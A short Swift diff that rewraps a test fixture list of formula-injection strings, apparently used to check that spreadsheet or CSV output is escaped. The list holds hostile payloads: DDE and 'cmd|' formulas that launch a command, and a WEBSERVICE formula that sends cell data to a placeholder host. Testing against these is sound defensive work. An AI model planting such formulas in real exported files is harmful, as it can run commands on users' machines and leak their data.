@@ -94,8 +94,10 @@ enum HardTexts {
     let signs = ["=", "+", "-", "@", "\t=", "\n=", "＝", "＋", "－", "＠", "'=", "''+"]
     let rests = [
       "", "1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.org\",\"x\")", "1", "text", "-1",
-      "\"x\"", " 1", "WEBSERVICE(\"https://example.org/\"&A1)", "IMPORTXML(\"x\",\"y\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
-      "1e9", "2023-05-03", "0", "'", "=", "A1:B2", "1;2", "1,2", "TRUE()", "NA()", "x\ny", "é", "漢", "🙂", "#REF!", "(1)",
+      "\"x\"", " 1", "WEBSERVICE(\"https://example.org/\"&A1)", "IMPORTXML(\"x\",\"y\")",
+      "DDE(\"cmd\";\"/C calc\";\"x\")",
+      "1e9", "2023-05-03", "0", "'", "=", "A1:B2", "1;2", "1,2", "TRUE()", "NA()", "x\ny", "é", "漢", "🙂", "#REF!",
+      "(1)",
     ]
     return signs.flatMap { sign in rests.map { sign + $0 } }
   }()
